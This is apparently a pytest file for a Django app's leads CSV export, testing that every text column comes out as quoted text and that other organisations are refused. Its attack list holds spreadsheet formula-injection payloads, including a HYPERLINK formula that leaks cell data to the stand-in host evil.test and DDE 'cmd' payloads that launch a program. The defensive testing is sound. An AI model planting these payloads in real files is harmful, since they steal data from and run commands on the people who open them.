"""The leads CSV: every cell an outsider (or a teammate) can fill comes out as text, never as a
formula that runs when the file is opened in a spreadsheet."""

import csv
import io
from datetime import UTC, datetime

import pytest
from django.test import Client

from klankbord.channels.models import Channel
from klankbord.inbox.models import Item
from klankbord.inbox.services import LEAD_COLUMNS
from klankbord.listening.models import Mention, Source
from klankbord.test import World, make_member

pytestmark = pytest.mark.django_db
URL = "/o/bakkerij-alice/inbox/leads.csv"

ATTACKS = [
    '=HYPERLINK("https://evil.test/?"&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]
# Everything but the time is text that came from outside or from a person.
FILLED = [column for column in LEAD_COLUMNS if column != "arrived_at"]


# Short columns hold the start of the attack: what a spreadsheet reads first is what counts.
SHORT = {
    "network": Mention._meta.get_field("network").max_length,
    "status": Item._meta.get_field("status").max_length,
}


def stored(column: str, value: str) -> str:
    return value[: SHORT.get(column)]


def lead(world: World, value: str, n: int) -> Item:
    """A lead whose every text column holds `value`, stored as an old row could hold it."""
    channel = Channel.objects.create(
        organisation=world.org, network="sandbox", external_id=f"c{n}", handle=value
    )
    # Connecting a channel made its source.
    source = Source.objects.get(channel=channel, kind=Source.Kind.MENTIONS)
    mention = Mention.objects.create(
        organisation=world.org, network=stored("network", value), remote_id=f"r{n}", key=f"k{n}",
        url=value, author_handle=value, author_name=value, text=value, places=[{"name": value}],
        source=source,
    )  # fmt: skip
    assignee = make_member(world.org, f"{n}@bakkerij.test", "manager").user
    assignee.email = value
    assignee.save(update_fields=["email"])
    return Item.objects.create(
        organisation=world.org, mention=mention, is_lead=True, status=stored("status", value),
        assignee=assignee,
        arrived_at=datetime(2026, 12, 1, 9, n, tzinfo=UTC),
    )  # fmt: skip


def rows(client: Client) -> list[dict[str, str]]:
    response = client.get(URL)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_every_formula_in_every_column_comes_out_as_text(
    alice_client: Client, world: World
) -> None:
    for n, attack in enumerate(ATTACKS):
        lead(world, attack, n)
    exported = rows(alice_client)
    assert len(exported) == len(ATTACKS)
    for row, attack in zip(exported, ATTACKS, strict=True):
        assert row["arrived_at"].startswith("2026-12-01T09:")
        assert row["url"] == ""  # not an http(s) address, so not an address at all
        for column in FILLED:
            if column != "url":
                assert row[column] == "'" + stored(column, attack), (column, attack)


def test_ordinary_leads_are_exported_as_they_are(alice_client: Client, world: World) -> None:
    mention = Mention.objects.create(
        organisation=world.org, network="mastodon", remote_id="1", key="1",
        url="https://m.test/@klant/1", author_handle="@klant@m.test", author_name="Klant Één",
        text="Ik wil 20 taarten bestellen; kan dat?", places=[{"name": "Leuven"}],
    )  # fmt: skip
    Item.objects.create(organisation=world.org, mention=mention, is_lead=True)
    [row] = rows(alice_client)
    # A handle starts with @, which Excel reads as a function: it gets the quote too.
    assert row == row | {
        "network": "mastodon", "channel": "", "author_handle": "'@klant@m.test",
        "author_name": "Klant Één",
        "text": "Ik wil 20 taarten bestellen; kan dat?", "url": "https://m.test/@klant/1",
        "status": "new", "assignee": "", "places": "Leuven",
    }  # fmt: skip


def test_another_organisation_gets_none_of_our_leads(charlie_client: Client, world: World) -> None:
    lead(world, "=1+1", 0)
    assert charlie_client.get(URL).status_code == 404
